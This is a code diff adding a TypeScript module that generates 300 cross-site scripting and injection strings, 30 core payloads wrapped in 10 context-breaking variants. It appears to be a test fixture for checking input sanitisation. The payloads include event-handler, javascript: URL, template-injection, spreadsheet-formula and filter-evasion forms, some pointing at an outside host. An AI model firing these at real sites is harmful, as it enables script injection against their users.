@@ -1,0 +1,48 @@
+const cores = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script>',
+  "'-alert(1)-'",
+  'javascript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  '{{constructor.constructor("alert(1)")()}}',
+  '${alert(1)}',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<math><mtext><img src=x onerror=alert(1)>',
+  '<a href=javascript:alert(1)>x</a>',
+  '<details open ontoggle=alert(1)>',
+  '<body onload=alert(1)>',
+  '</title><script>alert(1)</script>',
+  '</textarea><svg onload=alert(1)>',
+  '<style>@import"//x"</style>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '<form action=javascript:alert(1)><button>',
+  '<base href=//x>',
+  '<object data=javascript:alert(1)>',
+  '<embed src=javascript:alert(1)>',
+  '<link rel=stylesheet href=//x>',
+  '<meta http-equiv=refresh content=0>',
+  '<video><source onerror=alert(1)>',
+  '<marquee onstart=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '<scr<script>ipt>alert(1)</script>',
+  '=HYPERLINK("javascript:alert(1)")',
+]
+
+const coats: ((core: string) => string)[] = [
+  (core) => core,
+  (core) => core.toUpperCase(),
+  (core) => `">${core}`,
+  (core) => `'>${core}`,
+  (core) => `-->${core}<!--`,
+  (core) => `</p>${core}`,
+  (core) => `\\${core}`,
+  (core) => ` ;${core.replaceAll('=', ' = ')}`,
+  (core) => `${core.replaceAll('(1)', '`1`')}//`,
+  (core) => `陳${core}`,
+]
+
+/** 300 texts that run as a script wherever a text is taken for markup, for an address or for a template. */
+export const payloads = cores.flatMap((core) => coats.map((coat) => coat(core)))
